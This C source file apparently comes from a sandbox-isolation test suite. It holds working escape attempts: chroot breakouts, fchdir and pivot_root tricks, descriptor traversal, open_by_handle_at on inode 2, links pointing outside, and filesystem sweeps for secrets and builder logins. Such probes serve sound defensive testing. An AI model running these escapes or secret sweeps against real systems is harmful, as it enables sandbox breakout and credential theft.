/* Descriptors, working directories, roots within roots, links, and what others have left in files. */
#include "escape.h"
#include <sys/mman.h>
#include <sys/xattr.h>

#define MOST_DESCRIPTORS 256
#define UP "../../../../../../../../../../../../../../../.."

static void inherited_descriptors(void) {
  char path[64], target[512], found[2048] = "";
  for (int fd = 3; fd < 200; fd++) {
    if (fcntl(fd, F_GETFD) < 0 || fcntl(fd, F_GETFD) & FD_CLOEXEC) continue;
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    ssize_t length = readlink(path, target, sizeof target - 1);
    target[length > 0 ? length : 0] = 0;
    snprintf(found + strlen(found), sizeof found - strlen(found), "%d=%s ", fd, target);
  }
  if (*found) reached("%s", found);
  refused_as("there is none");
}

static void descriptor_upwards(void) {
  char through[128];
  for (int fd = 0; fd < 200; fd++) {
    snprintf(through, sizeof through, "/proc/self/fd/%d/" UP, fd);
    look_outside(through);
  }
  refused_as("no descriptor leads up");
}

static void working_directory_upwards(void) {
  char where[4096];
  look_outside(UP);
  look_outside("/proc/self/cwd/" UP);
  if (!getcwd(where, sizeof where) || *where != '/') reached("it is not below the root: %s", where);
  refused_as("the working directory is %s", where);
}

static void change_directory_to_descriptor(void) {
  char path[64];
  for (int fd = 3; fd < 200; fd++) {
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    if (!chdir(path)) look_outside(UP);
  }
  refused_as("no descriptor is a directory of others");
}

static void dots_at_the_root(void) {
  look_outside("/../" UP);
  refused_as("the root has no parent");
}

static void up_and_out(void) {
  for (int i = 0; i < 64; i++) {
    if (chdir("..")) refused(errno);
  }
  look_outside(".");
  if (chroot(".")) refused(errno);
  look_outside("");
  refused_as("the way up ends at the root");
}

static void chroot_twice(void) {
  mkdir("/tmp/inner", 0700);
  if (chdir("/") || chroot("/tmp/inner")) refused(errno);
  up_and_out();
}

static void fchdir_out_of_a_chroot(void) {
  int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  mkdir("/tmp/inner", 0700);
  if (chroot("/tmp/inner")) refused(errno);
  if (fchdir(root)) refused(errno);
  up_and_out();
}

static void pivot_root_out(void) {
  mkdir("/tmp/inner", 0700);
  if (syscall(SYS_pivot_root, "/tmp/inner", "/tmp/inner")) refused(errno);
  reached("another root");
}

static void link_outwards(void) {
  unlink("/tmp/outwards");
  if (symlink(outside(), "/tmp/outwards")) refused(errno);
  char buffer[128];
  if (read_file("/tmp/outwards/secret", buffer, sizeof buffer) > 0) reached("%s", buffer);
  refused(errno);
}

static void hard_link_to_outside(void) {
  if (!link(outside_path("secret"), "/tmp/stolen")) reached("linked");
  int error = errno;
  char path[64];
  for (int fd = 3; fd < 200; fd++) {
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    if (!linkat(AT_FDCWD, path, AT_FDCWD, "/tmp/stolen", AT_SYMLINK_FOLLOW)) reached("linked by descriptor %d", fd);
  }
  refused(error);
}

static void open_by_handle(void) {
  struct { unsigned bytes; int type; unsigned char handle[128]; } handle = {.bytes = 8, .type = 1, .handle = {2}};
  int mount = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  /* The root of many a file system is inode 2, whatever of it is mounted. */
  long file = syscall(SYS_open_by_handle_at, mount, &handle, O_RDONLY | O_DIRECTORY);
  if (file < 0 && (errno == EPERM || errno == ENOSYS)) refused(errno);
  reached("open_by_handle_at: %s", file < 0 ? strerror(errno) : "open");
}

static const char *overlay_attributes[] = {"trusted.overlay.opaque", "trusted.overlay.redirect", "trusted.overlay.metacopy", "trusted.overlay.origin"};

static void overlay_attributes_of_root(void) {
  mkdir("/tmp/overlay", 0755);
  for (size_t i = 0; i < sizeof overlay_attributes / sizeof *overlay_attributes; i++) {
    if (!setxattr("/tmp/overlay", overlay_attributes[i], "/", 1, 0)) reached("%s", overlay_attributes[i]);
  }
  refused(errno);
}

/* What a sweep is after, and what it has found. */
static const char *kind;
static char found[2048];

static int visit(const char *path, const struct stat *status) {
  if (S_ISDIR(status->st_mode)) return strcmp(path, "/proc") && strcmp(path, "/sys");
  if (status->st_size == 0 || !S_ISREG(status->st_mode)) return 0;
  int file = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
  if (file < 0) return 0;
  void *content = mmap(NULL, status->st_size, PROT_READ, MAP_PRIVATE, file, 0);
  close(file);
  if (content == MAP_FAILED) return 0;
  if (find_words(kind, content, status->st_size, found, sizeof found - 256)) {
    snprintf(found + strlen(found), sizeof found - strlen(found), "in %s ", path);
  }
  munmap(content, status->st_size);
  return 0;
}

static void sweep(const char *what) {
  kind = what;
  walk("/", 64, visit);
  if (*found) reached("%s", found);
  refused_as("no file has it");
}

static void secret_of_an_earlier_step(void) { sweep("secret"); }
static void secret_of_another_stage(void) { sweep("elsewhere"); }
static void cache_of_another_step(void) { sweep("cache"); }
static void file_that_the_context_ignores(void) { sweep("ignored"); }
static void login_of_the_builder(void) { sweep("login"); }
static void secret_of_the_machine(void) { sweep("outside"); }

static int visit_socket(const char *path, const struct stat *status) {
  if (S_ISSOCK(status->st_mode)) snprintf(found + strlen(found), sizeof found - strlen(found), "%s ", path);
  return strcmp(path, "/proc");
}

static void sockets_in_files(void) {
  walk("/", 64, visit_socket);
  if (*found) reached("%s", found);
  refused_as("there is none");
}

const struct way FILES[] = {
    {"inherited-descriptors", inherited_descriptors},
    {"descriptor-upwards", descriptor_upwards},
    {"working-directory-upwards", working_directory_upwards},
    {"cd-to-descriptor", change_directory_to_descriptor},
    {"dots-at-the-root", dots_at_the_root},
    {"chroot-twice", chroot_twice},
    {"fchdir-out-of-a-chroot", fchdir_out_of_a_chroot},
    {"pivot-root", pivot_root_out},
    {"link-outwards", link_outwards},
    {"hard-link-to-outside", hard_link_to_outside},
    {"open-by-handle", open_by_handle},
    {"overlay-attributes", overlay_attributes_of_root},
    {"secret-of-an-earlier-step", secret_of_an_earlier_step},
    {"secret-of-another-stage", secret_of_another_stage},
    {"cache-of-another-step", cache_of_another_step},
    {"file-that-the-context-ignores", file_that_the_context_ignores},
    {"login-of-the-builder", login_of_the_builder},
    {"secret-of-the-machine", secret_of_the_machine},
    {"sockets-in-files", sockets_in_files},
    {0}};
